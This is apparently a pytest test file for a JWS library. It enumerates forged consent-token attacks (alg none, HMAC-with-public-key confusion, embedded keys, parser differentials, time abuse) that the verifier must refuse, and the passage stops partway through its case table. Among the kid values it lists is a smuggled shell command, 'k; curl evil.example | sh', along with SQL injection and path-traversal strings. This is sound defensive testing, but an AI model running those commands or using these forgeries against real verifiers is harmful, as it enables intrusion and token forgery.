"""CT-*: attacks on a consent-like compact JWS (SECURITY.md T1-T9), one change per case.

Every case starts from a good token that :func:`jws.verify` accepts (asserted by
the ``world`` fixture), applies ONE change with a real key, and must be refused
with the exact exception class and :class:`Code`. Each case runs against an
Ed25519 and a P-256 issuer key. ``test_tally`` reruns the whole table and prints
the figure "N consent-token attack cases tried, 0 accepted".

Time boundaries (leeway L = ``limits.leeway_seconds``, 60 by default):

* ``exp``: accepted while ``now - L < exp``; ``exp == now - L`` is expired.
* ``nbf`` and ``iat``: accepted up to ``now + L`` inclusive; ``now + L + 1`` is refused.
* lifetime ``exp - iat``: accepted up to ``max_lifetime`` inclusive.
"""

from __future__ import annotations

import hashlib
import hmac
import json
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ed25519

from regie_protocol import jws
from regie_protocol._encoding import b64url_decode, b64url_encode
from regie_protocol.errors import (
    ClaimRefused,
    Code,
    MalformedInput,
    RegieError,
    SignatureRefused,
    TimeRefused,
)
from regie_protocol.keys import Alg, Ed25519PublicKey, P256PublicKey, PublicKey, SigningKey
from regie_protocol.limits import DEFAULT_LIMITS
from tests.conftest import NOW
from tests.protocol.jws_forge import forge, json_bytes, split

MAX_LIFETIME = 400 * 86400
PROFILE = jws.TokenProfile(
    name="consent token",
    typ="regie-consent+jwt",
    algs=frozenset({"EdDSA", "Ed25519", "ES256"}),
    required_claims=frozenset({"iss", "aud", "jti"}),
    max_lifetime=MAX_LIFETIME,
)
AUDIENCE = "https://verifier.example/rp/7"
LEEWAY = DEFAULT_LIMITS.leeway_seconds
_DROP = object()


@dataclass(frozen=True)
class World:
    """The issuer key, a second trusted key, an untrusted key of the same type, and a clock."""

    key: SigningKey
    other: SigningKey
    stranger: SigningKey
    cross: SigningKey  # a key of the *other* algorithm, held by the attacker
    now: int

    @property
    def keys(self) -> dict[str, PublicKey]:
        return {self.key.kid: self.key.public_key, self.other.kid: self.other.public_key}

    def header(self, **changes: Any) -> dict[str, Any]:
        base: dict[str, Any] = {"alg": self.key.alg.value, "typ": PROFILE.typ, "kid": self.key.kid}
        return _apply(base, changes)

    def claims(self, **changes: Any) -> dict[str, Any]:
        base: dict[str, Any] = {
            "iss": "https://wallet.example/holder/42",
            "aud": AUDIENCE,
            "jti": "consent-0001",
            "iat": self.now - 10,
            "nbf": self.now - 10,
            "exp": self.now + 3600,
            "scope": ["email", "birthdate"],
        }
        return _apply(base, changes)

    def token(
        self, *, header: Any = None, claims: Any = None, key: SigningKey | None = None
    ) -> str:
        return forge(
            self.header() if header is None else header,
            self.claims() if claims is None else claims,
            key=key or self.key,
        )

    def verify(self, token: str | bytes) -> jws.VerifiedJWS:
        return jws.verify(token, profile=PROFILE, keys=self.keys, now=self.now, audience=AUDIENCE)


def _apply(base: dict[str, Any], changes: dict[str, Any]) -> dict[str, Any]:
    for name, value in changes.items():
        if value is _DROP:
            base.pop(name, None)
        else:
            base[name] = value
    return base


def make_world(alg: Alg) -> World:
    cross_alg = Alg.ES256 if alg is Alg.EDDSA else Alg.EDDSA
    world = World(
        key=SigningKey.generate(alg),
        other=SigningKey.generate(alg),
        stranger=SigningKey.generate(alg),
        cross=SigningKey.generate(cross_alg),
        now=NOW,
    )
    # positive control: the unchanged token, and the one Regie's own sign() writes
    assert world.verify(world.token()).claims["jti"] == "consent-0001"
    assert world.verify(jws.sign(world.claims(), key=world.key, typ=PROFILE.typ)).key == (
        world.key.public_key
    )
    return world


@pytest.fixture
def world(signing_key: SigningKey) -> World:
    return make_world(signing_key.alg)


# --- builders ---------------------------------------------------------------------------


def header_json(world: World, raw: str) -> str:
    """A token whose header is the given JSON text (``{kid}``, ``{alg}`` filled in)."""
    text = raw.replace("{kid}", world.key.kid).replace("{alg}", world.key.alg.value)
    return world.token(header=text.encode("utf-8"))


def claims_json(world: World, raw: str) -> str:
    """A token whose payload is the given JSON text, signed by the trusted key."""
    c = world.claims()
    text = raw
    for name in ("iss", "aud", "jti"):
        text = text.replace("{" + name + "}", json.dumps(c[name]))
    for name in ("iat", "nbf", "exp"):
        text = text.replace("{" + name + "}", str(c[name]))
    return world.token(claims=text.encode("utf-8"))


GOOD_CLAIMS_JSON = '"iss":{iss},"aud":{aud},"jti":{jti},"iat":{iat},"nbf":{nbf},"exp":{exp}'


def exp_literal(literal: str) -> Callable[[World], str]:
    """The good claims with ``exp`` spelled as the given JSON number literal."""
    text = "{" + GOOD_CLAIMS_JSON.replace("{exp}", literal) + "}"
    return lambda world: claims_json(world, text)


def claims_bytes(value: bytes) -> Callable[[World], str]:
    """The good claims plus a member ``x`` whose JSON value is the given raw bytes."""
    return lambda world: world.token(
        claims=json_bytes(world.claims())[:-1] + b',"x":' + value + b"}"
    )


def alg_none(spelling: str, signature: str) -> Callable[[World], str]:
    def build(world: World) -> str:
        h, p, _ = split(world.token(header=world.header(alg=spelling)))
        return f"{h}.{p}." + ("" if signature == "empty" else split(world.token())[2])

    return build


def public_key_forms(key: PublicKey) -> dict[str, bytes]:
    """The verifier-known public key as an attacker would feed it to HMAC (CVE-2016-10555)."""
    if isinstance(key, Ed25519PublicKey):
        crypto: Any = ed25519.Ed25519PublicKey.from_public_bytes(key.raw)
        raw = key.raw
    else:
        assert isinstance(key, P256PublicKey)
        crypto = key.cryptography_key
        raw = crypto.public_bytes(
            serialization.Encoding.X962, serialization.PublicFormat.UncompressedPoint
        )
    spki = serialization.PublicFormat.SubjectPublicKeyInfo
    return {
        "raw": raw,
        "pem": crypto.public_bytes(serialization.Encoding.PEM, spki),
        "der": crypto.public_bytes(serialization.Encoding.DER, spki),
        "openssh": crypto.public_bytes(
            serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH
        ),
        "jwk": json.dumps(key.to_jwk()).encode(),
        "jwk-members": json_bytes(key.required_members()),
    }


def hmac_with_public_key(form: str, alg: str = "HS256") -> Callable[[World], str]:
    digest = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}[alg]

    def build(world: World) -> str:
        secret = public_key_forms(world.key.public_key)[form]
        h = b64url_encode(json_bytes(world.header(alg=alg)))
        p = b64url_encode(json_bytes(world.claims()))
        mac = hmac.new(secret, f"{h}.{p}".encode("ascii"), digest).digest()
        return f"{h}.{p}.{b64url_encode(mac)}"

    return build


def other_alg_signed_by_cross_key(world: World) -> str:
    """ES256 header against an Ed25519 key (and EdDSA against a P-256 key)."""
    return world.token(header=world.header(alg=world.cross.alg.value), key=world.cross)


def ed25519_alg_against_key(world: World) -> str:
    """``alg: Ed25519`` (RFC 9864) by an Ed25519 attacker key against the trusted key."""
    alg = "Ed25519" if world.key.alg is Alg.ES256 else "ES256"
    return world.token(header=world.header(alg=alg), key=world.cross)


def with_segment(
    index: int, transform: Callable[[str], str], *, resign: bool
) -> Callable[[World], str]:
    """Change one segment's text; re-sign over the changed text when it is signed input."""

    def build(world: World) -> str:
        parts = list(split(token_with_tails(world)))
        parts[index] = transform(parts[index])
        if resign and index < 2:
            signing_input = f"{parts[0]}.{parts[1]}".encode("ascii")
            parts[2] = b64url_encode(world.key.sign(signing_input))
        return ".".join(parts)

    return build


def token_with_tails(world: World) -> str:
    """A good token whose three segments all end in a partial base64 quantum.

    JSON whitespace in the header and a longer ``jti`` change the lengths, not the meaning.
    """
    header = json_bytes(world.header())
    header = next(h for h in (header[:1] + b" " * n + header[1:] for n in range(3)) if len(h) % 3)
    claims = next(
        c
        for c in (json_bytes(world.claims(jti="consent-0001" + "x" * n)) for n in range(3))
        if len(c) % 3
    )
    token = world.token(header=header, claims=claims)
    world.verify(token)  # positive control for this spelling
    return token


def noncanonical(segment: str) -> str:
    """Set the unused low bits of the last character (decodes to the same bytes if lax)."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    mask = 0x0F if len(segment) % 4 == 2 else 0x03
    assert len(segment) % 4 in (2, 3), "segment has no unused bits"
    return segment[:-1] + alphabet[alphabet.index(segment[-1]) | mask]


def signature_in_standard_alphabet(world: World) -> str:
    """A good token whose signature is spelled with ``+`` and ``/`` (same bytes if lax)."""
    for n in range(64):
        h, p, s = split(world.token(claims=world.claims(jti=f"consent-{n:04}")))
        s_std = s.replace("-", "+").replace("_", "/")
        if s_std != s:
            return f"{h}.{p}.{s_std}"
    raise AssertionError("no signature with - or _")  # pragma: no cover


def to_standard_alphabet(world: World) -> str:
    """The good token spelled with ``+`` and ``/`` and signed over that spelling."""
    for n in range(64):
        token = world.token(claims=world.claims(jti="consent-0001", note="?>" * n + "??>>"))
        h, p, _ = split(token)
        p_std = p.replace("-", "+").replace("_", "/")
        if p_std != p:
            return f"{h}.{p_std}." + b64url_encode(world.key.sign(f"{h}.{p_std}".encode()))
    raise AssertionError("no payload with - or _")  # pragma: no cover


def signature_of_another_token(world: World) -> str:
    h, p, _ = split(world.token())
    _, _, s = split(world.token(claims=world.claims(jti="consent-0002")))
    return f"{h}.{p}.{s}"


def replace_signature(change: Callable[[bytes], bytes]) -> Callable[[World], str]:
    def build(world: World) -> str:
        h, p, s = split(world.token())
        return f"{h}.{p}.{b64url_encode(change(b64url_decode(s)))}"

    return build


def payload_changed_after_signing(world: World) -> str:
    h, _, s = split(world.token())
    return f"{h}.{b64url_encode(json_bytes(world.claims(aud='https://evil.example')))}.{s}"


def header_reordered_after_signing(world: World) -> str:
    _, p, s = split(world.token())
    reordered = dict(reversed(list(world.header().items())))
    return f"{b64url_encode(json_bytes(reordered))}.{p}.{s}"


def embedded_jwk(signer: str, kid: str) -> Callable[[World], str]:
    def build(world: World) -> str:
        key = world.stranger if signer == "stranger" else world.key
        key_id = world.key.kid if kid == "trusted" else key.kid
        header = world.header(kid=key_id, jwk=key.public_key.to_jwk())
        return world.token(header=header, key=key)

    return build


def raw_payload(data: bytes) -> Callable[[World], str]:
    return lambda world: world.token(claims=data)


def raw_header(data: bytes) -> Callable[[World], str]:
    return lambda world: world.token(header=data)


def utf16(encoding: str) -> Callable[[World], str]:
    return lambda world: world.token(
        claims=json.dumps(world.claims(), separators=(",", ":")).encode(encoding)
    )


def oversized(world: World) -> str:
    return world.token(claims=world.claims(note="a" * PROFILE.max_bytes))


def deep_payload(depth: int) -> Callable[[World], str]:
    """Claims whose ``nest`` member brings the whole payload to ``depth`` levels."""
    inner = "[" * (depth - 1) + "]" * (depth - 1)
    return lambda world: claims_json(world, "{" + GOOD_CLAIMS_JSON + ',"nest":' + inner + "}")


def deep_header(depth: int) -> Callable[[World], str]:
    inner = "[" * (depth - 1) + "]" * (depth - 1)
    return lambda world: header_json(
        world, '{"alg":"{alg}","typ":"regie-consent+jwt","kid":"{kid}","x":' + inner + "}"
    )


def claims(**changes: Any) -> Callable[[World], str]:
    return lambda world: world.token(claims=world.claims(**changes))


def claims_at(**offsets: int | None) -> Callable[[World], str]:
    """Time claims set relative to ``now`` (None drops the claim)."""

    def build(world: World) -> str:
        changes = {k: (_DROP if v is None else world.now + v) for k, v in offsets.items()}
        return world.token(claims=world.claims(**changes))

    return build


def header(**changes: Any) -> Callable[[World], str]:
    return lambda world: world.token(header=world.header(**changes))


def signed_by(who: str, **header_changes: Any) -> Callable[[World], str]:
    def build(world: World) -> str:
        key = {"stranger": world.stranger, "key": world.key, "other": world.other}[who]
        changes = {k: (v(world) if callable(v) else v) for k, v in header_changes.items()}
        return world.token(header=world.header(**changes), key=key)

    return build


def text_edit(edit: Callable[[str], str]) -> Callable[[World], str]:
    return lambda world: edit(world.token())


def as_bytes(edit: Callable[[str], bytes]) -> Callable[[World], bytes]:
    return lambda world: edit(world.token())


def _insert(at: int, text: str) -> Callable[[str], str]:
    return lambda token: token[:at] + text + token[at:]


# --- the table --------------------------------------------------------------------------

Build = Callable[[World], "str | bytes"]
# exception classes and codes, abbreviated so that one case fits on one line
SR, MI, CR, TR = SignatureRefused, MalformedInput, ClaimRefused, TimeRefused
SIG, ALG, HDR, TYP, KID = (
    Code.SIGNATURE_INVALID,
    Code.ALGORITHM_REFUSED,
    Code.HEADER_REFUSED,
    Code.TYP_MISMATCH,
    Code.KEY_UNKNOWN,
)
MAL, DUP, DEPTH, SIZE = (
    Code.MALFORMED,
    Code.DUPLICATE_MEMBER,
    Code.DEPTH_EXCEEDED,
    Code.SIZE_EXCEEDED,
)
MISSING, INVALID, AUD = Code.CLAIM_MISSING, Code.CLAIM_INVALID, Code.AUDIENCE_MISMATCH
HEADER_FMT = '{"alg":"{alg}","typ":"regie-consent+jwt","kid":"{kid}"'


def case(id: str, build: Build, exc: type[RegieError], code: Code) -> Any:
    return pytest.param(build, exc, code, id="CT-" + id)


def header_text(members: str) -> Callable[[World], str]:
    """The good header with extra JSON text before the closing brace."""
    return lambda world: header_json(world, HEADER_FMT + members + "}")


def claims_text(before: str = "", after: str = "") -> Callable[[World], str]:
    """The good claims with extra JSON members before or after them."""
    return lambda world: claims_json(world, "{" + before + GOOD_CLAIMS_JSON + after + "}")


def sig_change(change: Callable[[bytes], bytes]) -> Callable[[World], str]:
    return replace_signature(change)


def drop_signature(token: str) -> str:
    return token.rsplit(".", 1)[0]


def real_sig_other_type_alg(world: World) -> str:
    return world.token(header=world.header(alg=world.cross.alg.value))


def trusted_kid_in_array(world: World) -> str:
    return world.token(header=world.header(kid=[world.key.kid]))


def kid_case_changed(world: World) -> str:
    return world.token(header=world.header(kid=world.key.kid.swapcase()))


def as_der(signature: bytes) -> bytes:
    return b"\x30\x44\x02\x20" + signature[:32] + b"\x02\x20" + signature[32:]


def latin1_payload(world: World) -> str:
    return world.token(
        claims=json.dumps(world.claims(iss="José"), ensure_ascii=False).encode("latin-1")
    )


def utf16_header(world: World) -> str:
    return world.token(header=json.dumps(world.header()).encode("utf-16"))


def with_suffix(suffix: bytes, *, part: str = "payload") -> Callable[[World], str]:
    def build(world: World) -> str:
        if part == "payload":
            return world.token(claims=json_bytes(world.claims()) + suffix)
        return world.token(header=json_bytes(world.header()) + suffix)

    return build


def with_prefix(prefix: bytes, *, part: str) -> Callable[[World], str]:
    def build(world: World) -> str:
        if part == "payload":
            return world.token(claims=prefix + json_bytes(world.claims()))
        return world.token(header=prefix + json_bytes(world.header()))

    return build


def pad(segment: str) -> str:
    return segment + "=" * (-len(segment) % 4 or 4)


def in_header(at: int, text: str) -> Callable[[str], str]:
    return lambda segment: segment[:at] + text + segment[at:]


PARTS = ((0, "header"), (1, "payload"), (2, "signature"))
NON_STRINGS: tuple[tuple[str, Any], ...] = (
    ("int", 1),
    ("null", None),
    ("true", True),
    ("object", {"kid": "x"}),
)
KID_INJECTIONS = (
    ("path-traversal", "../../../../../../dev/null"),
    ("absolute-path", "/dev/null"),
    ("sql-injection", "' UNION SELECT 'c2VjcmV0' -- "),
    ("sql-or-true", "x' OR '1'='1"),
    ("command-injection", "k; curl evil.example | sh"),
    ("empty", ""),
    ("url", "https://evil.example/key.json"),
    ("nul-byte", "kid\u0000"),
)
UNKNOWN_HEADERS: tuple[tuple[str, Any], ...] = (
    ("cty", "JWT"),
    ("zip", "DEF"),
    ("enc", "A256GCM"),
    ("epk", {"kty": "OKP"}),
    ("nonce", "n-0S6_WzA2Mj"),
    ("iss", "https://wallet.example"),
    ("x-private", 1),
    ("TYP", "regie-consent+jwt"),
    ("", ""),
)
BAD_JSON_VALUES = (
    ("NaN", "NaN"),
    ("Infinity", "Infinity"),
    ("-Infinity", "-Infinity"),
    ("lone-high-surrogate", '"\\ud800"'),
    ("lone-low-surrogate", '"\\udc00"'),
    ("reversed-surrogate-pair", '"\\udc00\\ud800"'),
    ("surrogate-as-member-name", '{"\\ud800":1}'),
    ("single-quotes", "'x'"),
    ("trailing-comma", "[1,]"),
    ("leading-zero", "01"),
    ("hex-number", "0x10"),
    ("comment", "1 /* c */"),
    ("float-overflowing-to-infinity", "1e400"),
    ("integer-of-5000-digits", "9" * 5000),
)
WHITESPACE: tuple[tuple[str, Callable[[str], str]], ...] = (
    ("trailing-newline", lambda t: t + "\n"),
    ("trailing-crlf", lambda t: t + "\r\n"),
    ("leading-space", lambda t: " " + t),
    ("space-before-dot", lambda t: t.replace(".", " .", 1)),
    ("tab-after-dot", lambda t: t.replace(".", ".\t", 1)),
    ("newline-inside", _insert(60, "\n")),
    ("space-in-signature", lambda t: t[:-10] + " " + t[-10:]),
    ("wrapped-at-76", lambda t: "\n".join(t[i : i + 76] for i in range(0, len(t), 76))),
)
NON_ASCII: tuple[tuple[str, Callable[[str], str]], ...] = (
    ("e-acute", _insert(60, "é")),
    ("fullwidth-dot", lambda t: t.replace(".", "\uff0e", 1)),
    ("arabic-digit", _insert(30, "\u0663")),
    ("zero-width-space", _insert(30, "\u200b")),
    ("nul", _insert(30, "\0")),
    ("bom-prefix", lambda t: "\ufeff" + t),
)
WRONG_TYPS: tuple[tuple[str, Any], ...] = (
    ("kb+jwt", "kb+jwt"),
    ("statuslist+jwt", "statuslist+jwt"),
    ("dc+sd-jwt", "dc+sd-jwt"),
    ("vc+sd-jwt", "vc+sd-jwt"),
    ("JWT", "JWT"),
    ("at+jwt", "at+jwt"),
    ("dpop+jwt", "dpop+jwt"),
    ("uppercase", "REGIE-CONSENT+JWT"),
    ("application-prefix", "application/regie-consent+jwt"),
    ("trailing-space", "regie-consent+jwt "),
    ("empty", ""),
    ("null", None),
    ("array", ["regie-consent+jwt"]),
    ("missing", _DROP),
)
BAD_NUMERIC_DATES: tuple[tuple[str, Any], ...] = (
    ("string-123", "123"),
    ("numeric-string", str(NOW + 100)),
    ("float-1.5", 1.5),
    ("integral-float", float(NOW)),
    ("true", True),
    ("false", False),
    ("2**64", 2**64),
    ("2**53", 2**53),
    ("negative", -1),
    ("null", None),
    ("array", [NOW]),
    ("object", {"$date": NOW}),
)
NOT_OBJECTS = (
    ("array", b'["x"]'),
    ("string", b'"claims"'),
    ("number", b"1790000000"),
    ("null", b"null"),
    ("true", b"true"),
    ("empty", b""),
    ("whitespace", b" "),
)
DEEP = DEFAULT_LIMITS.max_json_depth + 1
OTHER_AUD = "https://evil.example"

CASES = [
    # T1 forged consent: alg none in any spelling, a missing or wrong signature
    *(
        case(f"T1-alg-{s}-{sig}-signature", alg_none(s, sig), SR, ALG)
        for s in ("none", "None", "NONE", "nOnE")
        for sig in ("empty", "unchanged")
    ),
    case("T1-alg-missing", header(alg=_DROP), SR, ALG),
    case("T1-alg-empty-string", header(alg=""), SR, ALG),
    case("T1-alg-null", header(alg=None), SR, ALG),
    case("T1-alg-array", header(alg=["EdDSA", "ES256"]), SR, ALG),
    case("T1-alg-lowercase-eddsa", header(alg="eddsa"), SR, ALG),
    case("T1-alg-lowercase-es256", header(alg="es256"), SR, ALG),
    case("T1-alg-trailing-space", header(alg="EdDSA "), SR, ALG),
    case("T1-empty-signature", text_edit(lambda t: drop_signature(t) + "."), SR, SIG),
    case("T1-signature-stripped-2-parts", text_edit(drop_signature), MI, MAL),
    case("T1-signature-twice-4-parts", text_edit(lambda t: t + "." + t.split(".")[2]), MI, MAL),
    case("T1-jwe-shaped-5-parts", text_edit(lambda t: t + "..AA"), MI, MAL),
    case("T1-single-segment", text_edit(lambda t: t.split(".")[1]), MI, MAL),
    case("T1-empty-token", lambda w: "", MI, MAL),
    case("T1-only-dots", lambda w: "..", MI, MAL),
    case("T1-signature-of-another-token", signature_of_another_token, SR, SIG),
    case("T1-signature-truncated-1-byte", sig_change(lambda s: s[:-1]), SR, SIG),
    case("T1-signature-extra-byte", sig_change(lambda s: s + b"\0"), SR, SIG),
    case("T1-signature-bit-flipped", sig_change(lambda s: bytes([s[0] ^ 1]) + s[1:]), SR, SIG),
    case("T1-signature-all-zero", sig_change(lambda s: bytes(64)), SR, SIG),
    case("T1-signature-all-ff", sig_change(lambda s: b"\xff" * 64), SR, SIG),
    case("T1-signature-halves-swapped", sig_change(lambda s: s[32:] + s[:32]), SR, SIG),
    case("T1-signature-as-DER", sig_change(as_der), SR, SIG),
    case("T1-payload-changed-after-signing", payload_changed_after_signing, SR, SIG),
    case("T1-header-reordered-after-signing", header_reordered_after_signing, SR, SIG),
    # T2 algorithm/key confusion
    *(
        case(f"T2-HS256-with-public-key-{form}", hmac_with_public_key(form), SR, ALG)
        for form in ("raw", "pem", "der", "openssh", "jwk", "jwk-members")
    ),
    case("T2-HS384-with-public-key-pem", hmac_with_public_key("pem", "HS384"), SR, ALG),
    case("T2-HS512-with-public-key-der", hmac_with_public_key("der", "HS512"), SR, ALG),
    case("T2-other-key-type-alg-signed-by-attacker", other_alg_signed_by_cross_key, SR, ALG),
    case("T2-other-key-type-alg-real-signature", real_sig_other_type_alg, SR, ALG),
    case("T2-fully-specified-alg-of-other-key-type", ed25519_alg_against_key, SR, ALG),
    *(
        case(f"T2-alg-{alg}", header(alg=alg), SR, ALG)
        for alg in ("RS256", "PS256", "ES384", "ES512", "ES256K", "Ed448", "HS256")
    ),
    # T3 attacker-chosen key
    case("T3-embedded-jwk-of-stranger", embedded_jwk("stranger", "own"), SR, HDR),
    case("T3-embedded-jwk-of-stranger-trusted-kid", embedded_jwk("stranger", "trusted"), SR, HDR),
    case("T3-embedded-jwk-of-trusted-key", embedded_jwk("key", "trusted"), SR, HDR),
    case("T3-jku", header(jku="https://evil.example/jwks.json"), SR, HDR),
    case("T3-x5u", header(x5u="https://evil.example/cert.pem"), SR, HDR),
    case("T3-x5c", header(x5c=["MIIBszCCAVmgAwIBAgIUX"]), SR, HDR),
    case("T3-x5t", header(x5t="dGh1bWJwcmludA"), SR, HDR),
    case("T3-x5t#S256", header(**{"x5t#S256": "dGh1bWJwcmludA"}), SR, HDR),
    *(case(f"T3-kid-{name}", header(kid=kid), SR, KID) for name, kid in KID_INJECTIONS),
    case("T3-kid-thumbprint-case-changed", kid_case_changed, SR, KID),
    case(
        "T3-kid-of-stranger-signed-by-stranger",
        signed_by("stranger", kid=lambda w: w.stranger.kid),
        SR,
        KID,
    ),
    case("T3-kid-trusted-but-signed-by-stranger", signed_by("stranger"), SR, SIG),
    case("T3-kid-of-other-trusted-key", signed_by("key", kid=lambda w: w.other.kid), SR, SIG),
    case("T3-kid-missing-with-two-trusted-keys", header(kid=_DROP), SR, KID),
    case("T3-duplicate-kid-trusted-then-unknown", header_text(',"kid":"evil"'), MI, DUP),
    case("T3-duplicate-kid-same-value", header_text(',"kid":"{kid}"'), MI, DUP),
    case(
        "T3-duplicate-kid-unknown-first",
        lambda w: header_json(w, '{"kid":"evil",' + HEADER_FMT[1:] + "}"),
        MI,
        DUP,
    ),
    *(case(f"T3-kid-not-a-string-{name}", header(kid=kid), SR, KID) for name, kid in NON_STRINGS),
    case("T3-kid-array-of-trusted-kid", trusted_kid_in_array, SR, KID),
    # T4 unknown critical semantics and unknown header members
    case("T4-crit-exp", header(crit=["exp"]), SR, HDR),
    case("T4-crit-empty", header(crit=[]), SR, HDR),
    case("T4-crit-b64-with-b64-false", header(crit=["b64"], b64=False), SR, HDR),
    case("T4-crit-unknown-extension", header(crit=["urn:x:ext"], **{"urn:x:ext": 1}), SR, HDR),
    case("T4-crit-string", header(crit="b64"), SR, HDR),
    case("T4-b64-false", header(b64=False), SR, HDR),
    case("T4-b64-true", header(b64=True), SR, HDR),
    *(case(f"T4-unknown-header-{n}", header(**{n: v}), SR, HDR) for n, v in UNKNOWN_HEADERS),
    # T5 parser differentials
    case("T5-duplicate-alg-real-then-none", header_text(',"alg":"none"'), MI, DUP),
    case(
        "T5-duplicate-alg-none-then-real",
        lambda w: header_json(w, '{"alg":"none",' + HEADER_FMT[1:] + "}"),
        MI,
        DUP,
    ),
    case("T5-duplicate-typ", header_text(',"typ":"kb+jwt"'), MI, DUP),
    case(
        "T5-duplicate-claim-aud-right-then-wrong",
        claims_text(after=f',"aud":"{OTHER_AUD}"'),
        MI,
        DUP,
    ),
    case(
        "T5-duplicate-claim-aud-wrong-then-right",
        claims_text(before=f'"aud":"{OTHER_AUD}",'),
        MI,
        DUP,
    ),
    case("T5-duplicate-claim-exp", claims_text(after=',"exp":99999999999'), MI, DUP),
    case("T5-duplicate-member-nested", claims_text(after=',"cnf":{"jkt":"a","jkt":"b"}'), MI, DUP),
    case("T5-duplicate-member-in-array", claims_text(after=',"x":[{"a":1,"a":2}]'), MI, DUP),
    *(case(f"T5-payload-{n}", claims_text(after=',"x":' + v), MI, MAL) for n, v in BAD_JSON_VALUES),
    case("T5-exp-NaN", exp_literal("NaN"), MI, MAL),
    case("T5-exp-Infinity", exp_literal("Infinity"), MI, MAL),
    case("T5-header-Infinity", header_text(',"x":Infinity'), MI, MAL),
    case("T5-header-lone-surrogate", header_text(',"x":"\\ud800"'), MI, MAL),
    case("T5-surrogate-utf8-bytes", claims_bytes(b'"\xed\xa0\x80"'), MI, MAL),
    case("T5-overlong-utf8", claims_bytes(b'"\xc0\xaf"'), MI, MAL),
    case("T5-invalid-utf8-continuation", claims_bytes(b'"\x80"'), MI, MAL),
    case("T5-latin1-payload", latin1_payload, MI, MAL),
    case("T5-bom-payload", with_prefix(b"\xef\xbb\xbf", part="payload"), MI, MAL),
    case("T5-bom-header", with_prefix(b"\xef\xbb\xbf", part="header"), MI, MAL),
    case("T5-utf16-le-payload", utf16("utf-16-le"), MI, MAL),
    case("T5-utf16-be-payload", utf16("utf-16-be"), MI, MAL),
    case("T5-utf16-bom-payload", utf16("utf-16"), MI, MAL),
    case("T5-utf32-payload", utf16("utf-32"), MI, MAL),
    case("T5-utf16-header", utf16_header, MI, MAL),
    case("T5-trailing-garbage-after-json", with_suffix(b"x"), MI, MAL),
    case("T5-two-json-objects", with_suffix(b"{}"), MI, MAL),
    case("T5-nul-after-json", with_suffix(b"\0"), MI, MAL),
    case("T5-header-trailing-garbage", with_suffix(b"]", part="header"), MI, MAL),
    *(case(f"T5-padding-{n}", with_segment(i, pad, resign=True), MI, MAL) for i, n in PARTS),
    case("T5-padding-single-equals-signature", text_edit(lambda t: t + "="), MI, MAL),
    *(
        case(
            f"T5-noncanonical-trailing-bits-{n}",
            with_segment(i, noncanonical, resign=True),
            MI,
            MAL,
        )
        for i, n in PARTS
    ),
    case("T5-standard-alphabet-plus-slash", to_standard_alphabet, MI, MAL),
    case("T5-signature-standard-alphabet", signature_in_standard_alphabet, MI, MAL),
    *(case(f"T5-whitespace-{name}", text_edit(edit), MI, MAL) for name, edit in WHITESPACE),
    case(
        "T5-whitespace-signed-in-header", with_segment(0, in_header(4, " "), resign=True), MI, MAL
    ),
    *(case(f"T5-non-ascii-{name}", text_edit(edit), MI, MAL) for name, edit in NON_ASCII),
    case("T5-non-ascii-bytes", as_bytes(lambda t: t.encode() + b"\xc3\xa9"), MI, MAL),
    case(
        "T5-latin1-byte-in-bytes",
        as_bytes(lambda t: t[:30].encode() + b"\xe9" + t[30:].encode()),
        MI,
        MAL,
    ),
    # T6 cross-JWT confusion and audience
    *(case(f"T6-typ-{name}", header(typ=typ), SR, TYP) for name, typ in WRONG_TYPS),
    case("T6-aud-other-verifier", claims(aud="https://other-verifier.example/rp/8"), CR, AUD),
    case("T6-aud-trailing-slash", claims(aud=AUDIENCE + "/"), CR, AUD),
    case("T6-aud-uppercase", claims(aud=AUDIENCE.upper()), CR, AUD),
    case("T6-aud-prefix", claims(aud=AUDIENCE[:-1]), CR, AUD),
    case("T6-aud-empty-string", claims(aud=""), CR, AUD),
    case("T6-aud-array-only-right-value", claims(aud=[AUDIENCE]), CR, INVALID),
    case("T6-aud-array-with-right-value", claims(aud=[AUDIENCE, OTHER_AUD]), CR, INVALID),
    case("T6-aud-array-empty", claims(aud=[]), CR, INVALID),
    case("T6-aud-object", claims(aud={"aud": AUDIENCE}), CR, INVALID),
    case("T6-aud-number", claims(aud=7), CR, INVALID),
    case("T6-aud-missing", claims(aud=_DROP), CR, MISSING),
    case("T6-aud-null", claims(aud=None), CR, MISSING),
    case("T6-iss-missing", claims(iss=_DROP), CR, MISSING),
    case("T6-jti-missing", claims(jti=_DROP), CR, MISSING),
    # T8 time abuse
    case("T8-exp-missing", claims(exp=_DROP), CR, MISSING),
    case("T8-iat-missing", claims(iat=_DROP), CR, MISSING),
    *(
        case(f"T8-{name}-{label}", claims(**{name: value}), CR, INVALID)
        for name in ("exp", "iat", "nbf")
        for label, value in BAD_NUMERIC_DATES
    ),
    case("T8-exp-exponent-notation", exp_literal("1.8e9"), CR, INVALID),
    case("T8-exp-integral-exponent", exp_literal("18e8"), CR, INVALID),
    case("T8-exp-trailing-zero-fraction", exp_literal(f"{NOW + 3600}.0"), CR, INVALID),
    case("T8-exp-huge-literal", exp_literal("9" * 400), CR, INVALID),
    case("T8-exp-overflowing-float", exp_literal("1e400"), MI, MAL),
    case("T8-exp-negative-zero", exp_literal("-0"), TR, Code.EXPIRED),
    case("T8-exp-zero", claims(exp=0), TR, Code.EXPIRED),
    case("T8-expired-long-ago", claims_at(iat=-90_000, nbf=None, exp=-86_400), TR, Code.EXPIRED),
    case(
        "T8-expired-at-leeway-edge", claims_at(iat=-3600, nbf=None, exp=-LEEWAY), TR, Code.EXPIRED
    ),
    case(
        "T8-expired-past-leeway", claims_at(iat=-3600, nbf=None, exp=-LEEWAY - 1), TR, Code.EXPIRED
    ),
    case("T8-nbf-beyond-leeway", claims_at(nbf=LEEWAY + 1), TR, Code.NOT_YET_VALID),
    case("T8-nbf-far-future", claims_at(nbf=86_400, exp=90_000), TR, Code.NOT_YET_VALID),
    case("T8-iat-beyond-leeway", claims_at(iat=LEEWAY + 1, nbf=None), TR, Code.ISSUED_IN_FUTURE),
    case(
        "T8-lifetime-one-second-too-long",
        claims_at(iat=-10, exp=MAX_LIFETIME - 9),
        TR,
        Code.LIFETIME_TOO_LONG,
    ),
    case(
